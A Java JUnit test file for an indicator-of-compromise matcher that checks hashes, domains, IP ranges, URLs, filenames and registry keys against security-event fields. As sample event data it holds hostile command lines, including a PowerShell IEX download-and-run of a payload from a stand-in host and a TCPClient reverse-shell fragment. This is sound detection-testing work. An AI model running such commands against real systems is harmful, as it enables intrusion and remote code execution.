package io.vigil.ioc;

import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.core.detect.Level;
import io.vigil.core.event.Event;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

class IocMatcherTest {
    /** One indicator per (type, value) pair, ids "i1", "i2", … in order. */
    static IocSet set(Object... typeValue) {
        IocSet.Builder b = IocSet.builder();
        for (int i = 0; i < typeValue.length; i += 2) {
            Comparison c = Comparison.of((IocType) typeValue[i], (String) typeValue[i + 1]);
            b.add(Indicator.single("i" + (i / 2 + 1), "test-feed", "tester", null, List.of(), Level.LOW, -1, c));
        }
        return b.build();
    }

    static List<String> ids(IocSet set, Event e) {
        return ids(new IocMatcher(set), e);
    }

    static List<String> ids(IocMatcher m, Event e) {
        List<String> out = new ArrayList<>();
        m.match(e, h -> out.add(h.indicator().id()));
        return out;
    }

    @Nested
    class Hashes {
        static final String MD5 = "7f8a867a8302fe58039a6db254d335ae";
        static final String SHA256 = "5262cb9791df50fafcb2fbd5f93226050b51efe400c2924eecba97b7ce437481";
        static final String IMP = "0556ff5e5f8744bff47d4921494ba46d";

        @Test
        void sysmonHashesListIsParsedByAlgorithm() {
            IocSet s = set(IocType.MD5, MD5, IocType.SHA256, SHA256, IocType.IMPHASH, IMP);
            Event e = Events.of(
                    "EventID",
                    1L,
                    "Hashes",
                    "SHA1=AAAA1111AAAA1111AAAA1111AAAA1111AAAA1111,MD5=" + MD5.toUpperCase() + ",SHA256="
                            + SHA256.toUpperCase() + ",IMPHASH=" + IMP.toUpperCase());
            List<IocHit> hits = new IocMatcher(s).match(e);
            assertThat(hits).extracting(h -> h.indicator().id()).containsExactly("i1", "i2", "i3");
            assertThat(hits).extracting(IocHit::field).containsOnly("Hashes");
        }

        @Test
        void anMd5IndicatorDoesNotMatchAnImphashOfTheSameDigits() {
            IocSet s = set(IocType.MD5, IMP);
            assertThat(ids(s, Events.of("Hashes", "IMPHASH=" + IMP))).isEmpty();
            assertThat(ids(s, Events.of("Hashes", "MD5=" + IMP))).containsExactly("i1");
        }

        @Test
        void genericHashMatchesAnyAlgorithm() {
            IocSet s = set(IocType.HASH, IMP, IocType.HASH, SHA256);
            assertThat(ids(s, Events.of("Hashes", "IMPHASH=" + IMP))).containsExactly("i1");
            assertThat(ids(s, Events.of("Hashes", "SHA256=" + SHA256))).containsExactly("i2");
        }

        @Test
        void hashesInOtherFieldsAndEcsNames() {
            IocSet s = set(IocType.SHA256, SHA256, IocType.MD5, MD5, IocType.IMPHASH, IMP);
            assertThat(ids(s, Events.of("file.hash.sha256", SHA256))).containsExactly("i1");
            assertThat(ids(s, Events.of("process.hash.md5", MD5.toUpperCase()))).containsExactly("i2");
            assertThat(ids(s, Events.of("process.pe.imphash", IMP))).containsExactly("i3");
            assertThat(ids(s, Events.of("Hash", "MD5=" + MD5 + ";SHA256=" + SHA256)))
                    .containsExactly("i2", "i1");
            assertThat(ids(s, Events.of("FileHash", MD5))).containsExactly("i2");
            // a field named for one algorithm does not make an MD5 indicator match an imphash of equal text
            assertThat(ids(set(IocType.MD5, IMP), Events.of("process.pe.imphash", IMP)))
                    .isEmpty();
        }

        @Test
        void hashesAreNotLookedUpInUnrelatedFields() {
            IocSet s = set(IocType.MD5, MD5);
            assertThat(ids(s, Events.of("CommandLine", "certutil -hashfile x " + MD5, "TargetUserName", MD5)))
                    .isEmpty();
        }
    }

    @Nested
    class FileNames {
        @Test
        void basenamesOfImageTargetFilenameAndImageLoaded() {
            IocSet s = set(
                    IocType.FILENAME,
                    "StarBurn.dll",
                    IocType.FILENAME,
                    "handkerchief.dat",
                    IocType.FILENAME,
                    "obedience.exe");
            assertThat(ids(s, Events.of("ImageLoaded", "C:\\Users\\a\\AppData\\Local\\Temp\\starburn.DLL")))
                    .containsExactly("i1");
            assertThat(ids(s, Events.of("TargetFilename", "C:\\Users\\a\\AppData\\Local\\Temp\\Handkerchief.dat")))
                    .containsExactly("i2");
            assertThat(ids(s, Events.of("Image", "C:\\Temp\\obedience.exe", "ParentImage", "C:\\x\\obedience.exe")))
                    .containsExactly("i3");
            assertThat(ids(s, Events.of("process.executable", "C:/Temp/obedience.exe")))
                    .containsExactly("i3");
            assertThat(ids(s, Events.of("Image", "C:\\Temp\\notobedience.exe"))).isEmpty();
            assertThat(ids(s, Events.of("Image", "C:\\obedience.exe\\x.exe"))).isEmpty();
        }

        @Test
        void pathSuffixesMatchOnSegmentBoundaries() {
            IocSet s = set(IocType.FILENAME, "\\Temp\\obedience.exe");
            assertThat(ids(s, Events.of("Image", "C:\\Users\\a\\AppData\\Local\\Temp\\obedience.exe")))
                    .containsExactly("i1");
            assertThat(ids(s, Events.of("Image", "C:\\MyTemp\\obedience.exe"))).isEmpty();
            assertThat(ids(s, Events.of("Image", "C:\\Temp\\x\\obedience.exe"))).isEmpty();
        }

        @Test
        void serviceImagePathsWithArgumentsAndQuotes() {
            IocSet s = set(IocType.FILENAME, "rund1132.exe");
            assertThat(ids(s, Events.of("ImagePath", "\"C:\\Program Files\\x\\rund1132.exe\" -k svc")))
                    .containsExactly("i1");
            assertThat(ids(s, Events.of("ImagePath", "C:\\Windows\\rund1132.exe -k svc")))
                    .containsExactly("i1");
        }

        @Test
        void securityObjectNameIsAPathOrARegistryKey() {
            IocSet s = set(IocType.FILENAME, "secretsdump.exe", IocType.REGKEY, "HKEY_LOCAL_MACHINE\\SOFTWARE\\Evil");
            assertThat(ids(s, Events.of("ObjectName", "C:\\Tools\\secretsdump.exe")))
                    .containsExactly("i1");
            assertThat(ids(s, Events.of("ObjectName", "\\REGISTRY\\MACHINE\\SOFTWARE\\Evil")))
                    .containsExactly("i2");
        }
    }

    @Nested
    class Domains {
        @Test
        void queryNameMatchesTheDomainAndItsSubdomainsCaseInsensitively() {
            IocSet s = set(IocType.DOMAIN, "Evil-C2.com");
            assertThat(ids(s, Events.of("QueryName", "evil-c2.com"))).containsExactly("i1");
            assertThat(ids(s, Events.of("QueryName", "WWW.Mail.EVIL-C2.com."))).containsExactly("i1");
            assertThat(ids(s, Events.of("QueryName", "notevil-c2.com"))).isEmpty();
            assertThat(ids(s, Events.of("QueryName", "evil-c2.com.example.org")))
                    .isEmpty();
            assertThat(ids(s, Events.of("QueryName", "com"))).isEmpty();
        }

        @Test
        void hostnameIndicatorsMatchExactly() {
            IocSet s = set(IocType.HOSTNAME, "mail.evil.org");
            assertThat(ids(s, Events.of("QueryName", "mail.evil.org"))).containsExactly("i1");
            assertThat(ids(s, Events.of("QueryName", "x.mail.evil.org"))).isEmpty();
            assertThat(ids(s, Events.of("QueryName", "evil.org"))).isEmpty();
        }

        @Test
        void ecsAndSysmonHostFields() {
            IocSet s = set(IocType.DOMAIN, "r3u8.com");
            assertThat(ids(s, Events.of("dns.question.name", "002562066559681.r3u8.com")))
                    .containsExactly("i1");
            assertThat(ids(s, Events.of("DestinationHostname", "a.r3u8.com"))).containsExactly("i1");
            assertThat(ids(s, Events.of("Computer", "a.r3u8.com"))).isEmpty();
        }

        @Test
        void defangedFeedValuesAreRefanged() {
            IocSet s = set(IocType.DOMAIN, "evil[.]com", IocType.URL, "hxxp://bad[.]org/x");
            assertThat(ids(s, Events.of("QueryName", "evil.com"))).containsExactly("i1");
            assertThat(ids(s, Events.of("CommandLine", "curl http://bad.org/x")))
                    .containsExactly("i2");
        }
    }

    @Nested
    class Addresses {
        @Test
        void exactAddressesAndCidrRangesV4AndV6() {
            IocSet s = set(
                    IocType.IP_DST,
                    "203.0.113.7",
                    IocType.IP,
                    "198.51.100.0/24",
                    IocType.IP,
                    "2001:db8:abcd::/48",
                    IocType.IP_SRC,
                    "2001:DB8::1");
            assertThat(ids(s, Events.of("DestinationIp", "203.0.113.7"))).containsExactly("i1");
            assertThat(ids(s, Events.of("DestinationIp", "203.0.113.8"))).isEmpty();
            assertThat(ids(s, Events.of("DestinationIp", "198.51.100.254"))).containsExactly("i2");
            assertThat(ids(s, Events.of("DestinationIp", "198.51.101.1"))).isEmpty();
            assertThat(ids(s, Events.of("SourceIp", "2001:db8:abcd:12::5"))).containsExactly("i3");
            assertThat(ids(s, Events.of("SourceIp", "2001:db8:abce::5"))).isEmpty();
            assertThat(ids(s, Events.of("SourceIp", "2001:0db8:0000:0000:0000:0000:0000:0001")))
                    .containsExactly("i4");
        }

        @Test
        void ipv4MappedAddressesAsWindowsWritesThem() {
            IocSet s = set(IocType.IP_SRC, "10.20.30.40");
            assertThat(ids(s, Events.of("IpAddress", "::ffff:10.20.30.40"))).containsExactly("i1");
        }

        @Test
        void allIpFieldNamesSecurityEcsAndFlat() {
            IocSet s = set(IocType.IP, "192.0.2.10");
            for (String field : List.of(
                    "DestinationIp",
                    "SourceIp",
                    "IpAddress",
                    "SourceAddress",
                    "DestAddress",
                    "ClientAddress",
                    "source.ip",
                    "destination.ip",
                    "client.ip",
                    "server.ip",
                    "related.ip",
                    "src_ip",
                    "dst_ip",
                    "dest_ip",
                    "SrcIp",
                    "DstIp",
                    "winlog.event_data.DestinationIp")) {
                assertThat(ids(s, Events.of(field, "192.0.2.10"))).as(field).containsExactly("i1");
            }
            assertThat(ids(s, Events.of("related.ip", List.of("10.0.0.1", "192.0.2.10"))))
                    .containsExactly("i1");
            assertThat(ids(s, Events.of("DestinationIp", "192.0.2.10:443"))).containsExactly("i1");
        }

        @Test
        void directionIsIgnoredUnlessEnforced() {
            IocSet s = set(IocType.IP_SRC, "192.0.2.1", IocType.IP_DST, "192.0.2.2");
            Event e = Events.of("DestinationIp", "192.0.2.1", "SourceIp", "192.0.2.2");
            assertThat(ids(s, e)).containsExactly("i1", "i2");
            IocMatcher strict = new IocMatcher(s, new MatchOptions(true, true));
            assertThat(ids(strict, e)).isEmpty();
            assertThat(ids(strict, Events.of("SourceIp", "192.0.2.1", "destination.ip", "192.0.2.2")))
                    .containsExactly("i1", "i2");
            // a field that tells no direction matches either
            assertThat(ids(strict, Events.of("related.ip", "192.0.2.1"))).containsExactly("i1");
        }
    }

    @Nested
    class FreeText {
        @Test
        void domainsUrlsAndAddressesInsideCommandLines() {
            IocSet s = set(
                    IocType.DOMAIN,
                    "evil.com",
                    IocType.URL,
                    "http://dl.example.net/a/payload.ps1",
                    IocType.IP,
                    "203.0.113.0/24",
                    IocType.IP,
                    "2001:db8::66");
            assertThat(ids(s, Events.of("CommandLine", "ping -n 1 WWW.EVIL.COM")))
                    .containsExactly("i1");
            assertThat(
                            ids(
                                    s,
                                    Events.of(
                                            "CommandLine",
                                            "powershell IEX (New-Object Net.WebClient).DownloadString('http://dl.example.net/a/payload.ps1')")))
                    .containsExactly("i2");
            assertThat(ids(s, Events.of("CommandLine", "curl https://dl.example.net/a/payload.ps1?x=1#f")))
                    .containsExactly("i2");
            assertThat(ids(s, Events.of("ScriptBlockText", "$c = New-Object Net.Sockets.TCPClient('203.0.113.9',443)")))
                    .containsExactly("i3");
            assertThat(ids(s, Events.of("CommandLine", "net use \\\\[2001:db8::66]\\c$")))
                    .containsExactly("i4");
            assertThat(ids(s, Events.of("CommandLine", "user@mail.evil.com:22 notevil.com evil.community")))
                    .containsExactly("i1");
            assertThat(ids(s, Events.of("CommandLine", "c:\\windows\\system32\\rundll32.exe 1.2.3.4")))
                    .isEmpty();
        }

        @Test
        void urlFieldsMatchUrlsAndTheirHosts() {
            IocSet s = set(IocType.URL, "https://dl.example.net/a/payload.ps1", IocType.DOMAIN, "c2.example.org");
            assertThat(ids(s, Events.of("url.full", "HTTPS://dl.example.net/a/payload.ps1")))
                    .containsExactly("i1");
            assertThat(ids(s, Events.of("url.full", "http://user@x.c2.example.org:8080/gate.php")))
                    .containsExactly("i2");
        }
    }

    @Nested
    class HostArtefacts {
        @Test
        void namedPipesMutexesAndRegistryKeys() {
            IocSet s = set(
                    IocType.NAMED_PIPE,
                    "\\\\.\\pipe\\NamePipe_MoreWindows",
                    IocType.MUTEX,
                    "RedLeavesCMDSimulatorMutex",
                    IocType.REGKEY,
                    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\evil");
            assertThat(ids(s, Events.of("EventID", 17L, "PipeName", "\\NamePipe_MoreWindows")))
                    .containsExactly("i1");
            assertThat(ids(s, Events.of("Mutex", "Global\\redleavescmdsimulatormutex")))
                    .containsExactly("i2");
            assertThat(
                            ids(
                                    s,
                                    Events.of(
                                            "TargetObject",
                                            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\evil")))
                    .containsExactly("i3");
            assertThat(
                            ids(
                                    s,
                                    Events.of(
                                            "TargetObject",
                                            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\other")))
                    .isEmpty();
        }

        @Test
        void aRegistryKeyIndicatorMatchesValuesDirectlyInsideIt() {
            IocSet s = set(IocType.REGKEY, "HKEY_LOCAL_MACHINE\\SOFTWARE\\EvilCorp");
            assertThat(ids(s, Events.of("TargetObject", "HKLM\\SOFTWARE\\EvilCorp\\Config")))
                    .containsExactly("i1");
            assertThat(ids(s, Events.of("TargetObject", "HKLM\\SOFTWARE\\EvilCorp\\Sub\\Config")))
                    .isEmpty();
        }
    }

    @Nested
    class Clauses {
        @Test
        void andClausesNeedEveryComparisonAndReportTheFirst() {
            Indicator ind = new Indicator(
                    "and",
                    "f",
                    "a",
                    null,
                    List.of(),
                    Level.LOW,
                    -1,
                    null,
                    null,
                    List.of(List.of(Comparison.of(IocType.IP_DST, "192.0.2.5"), Comparison.of(IocType.PORT, "995"))));
            IocSet s = IocSet.builder().add(ind).build();
            assertThat(ids(s, Events.of("DestinationIp", "192.0.2.5", "DestinationPort", 443L)))
                    .isEmpty();
            assertThat(ids(s, Events.of("DestinationPort", 443L))).isEmpty();
            List<IocHit> hits =
                    new IocMatcher(s).match(Events.of("DestinationPort", 995L, "DestinationIp", "192.0.2.5"));
            assertThat(hits).singleElement().satisfies(h -> {
                assertThat(h.comparison().value()).isEqualTo("192.0.2.5");
                assertThat(h.field()).isEqualTo("DestinationIp");
            });
        }

        @Test
        void orClausesReportTheComparisonThatMatched() {
            Indicator ind = new Indicator(
                    "or",
                    "f",
                    "a",
                    null,
                    List.of(),
                    Level.LOW,
                    -1,
                    null,
                    null,
                    List.of(
                            List.of(Comparison.of(IocType.DOMAIN, "a.example")),
                            List.of(Comparison.of(IocType.DOMAIN, "b.example"))));
            IocSet s = IocSet.builder().add(ind).build();
            List<IocHit> hits = new IocMatcher(s).match(Events.of("QueryName", "x.b.example"));
            assertThat(hits)
                    .singleElement()
                    .extracting(h -> h.comparison().value())
                    .isEqualTo("b.example");
        }
    }

    @Nested
    class OncePerEventAndIndicator {
        @Test
        void anIndicatorFoundInSeveralFieldsIsReportedOnceAtItsFirstField() {
            IocSet s = set(IocType.DOMAIN, "evil.com");
            List<IocHit> hits = new IocMatcher(s)
                    .match(Events.of(
                            "QueryName",
                            "evil.com",
                            "CommandLine",
                            "nslookup evil.com && ping a.evil.com",
                            "DestinationHostname",
                            "evil.com"));
            assertThat(hits).singleElement().extracting(IocHit::field).isEqualTo("QueryName");
        }

        @Test
        void twoIndicatorsWithTheSameValueAreTwoHits() {
            IocSet s = set(IocType.DOMAIN, "evil.com", IocType.HOSTNAME, "EVIL.com");
            assertThat(ids(s, Events.of("QueryName", "evil.com"))).containsExactly("i1", "i2");
        }

        @Test
        void anOrIndicatorMatchingTwoAlternativesIsOneHit() {
            Indicator ind = new Indicator(
                    "or",
                    "f",
                    "a",
                    null,
                    List.of(),
                    Level.LOW,
                    -1,
                    null,
                    null,
                    List.of(
                            List.of(Comparison.of(IocType.DOMAIN, "a.example")),
                            List.of(Comparison.of(IocType.IP, "192.0.2.1"))));
            IocSet s = IocSet.builder().add(ind).build();
            assertThat(ids(s, Events.of("QueryName", "a.example", "DestinationIp", "192.0.2.1")))
                    .containsExactly("or");
        }
    }

    @Nested
    class Validity {
        @Test
        void eventTimeMustFallInsideTheWindow() {
            Indicator ind = new Indicator(
                    "v",
                    "f",
                    "a",
                    null,
                    List.of(),
                    Level.LOW,
                    -1,
                    Instant.parse("2017-04-01T00:00:00Z"),
                    Instant.parse("2020-01-01T00:00:00Z"),
                    List.of(List.of(Comparison.of(IocType.DOMAIN, "old.example"))));
            IocSet s = IocSet.builder().add(ind).build();
            assertThat(ids(s, Events.at(Instant.parse("2018-06-01T00:00:00Z"), "QueryName", "old.example")))
                    .containsExactly("v");
            assertThat(ids(s, Events.at(Instant.parse("2016-06-01T00:00:00Z"), "QueryName", "old.example")))
                    .isEmpty();
            assertThat(ids(s, Events.at(Instant.parse("2020-01-01T00:00:00Z"), "QueryName", "old.example")))
                    .isEmpty();
            assertThat(ids(s, Events.at(null, "QueryName", "old.example"))).containsExactly("v");
            IocMatcher ignoring = new IocMatcher(s, new MatchOptions(false, false));
            assertThat(ids(ignoring, Events.at(Instant.parse("2024-06-01T00:00:00Z"), "QueryName", "old.example")))
                    .containsExactly("v");
        }
    }

    @Test
    void emptySetAndIrrelevantEventsMatchNothing() {
        assertThat(ids(IocSet.empty(), Events.of("QueryName", "evil.com"))).isEmpty();
        IocSet s = set(IocType.DOMAIN, "evil.com");
        assertThat(ids(s, Events.of("EventID", 4624L, "TargetUserName", "evil.com", "QueryName", null)))
                .isEmpty();
    }

    @Test
    void mergedSetsKeepEveryFeed() {
        IocSet a = set(IocType.DOMAIN, "a.example");
        IocSet b = set(IocType.DOMAIN, "b.example");
        IocSet both = IocSet.merge(List.of(a, b));
        assertThat(both.size()).isEqualTo(2);
        assertThat(ids(both, Events.of("QueryName", "b.example"))).containsExactly("i1");
        assertThat(both.countsByType()).containsEntry("domain", 2);
    }
}
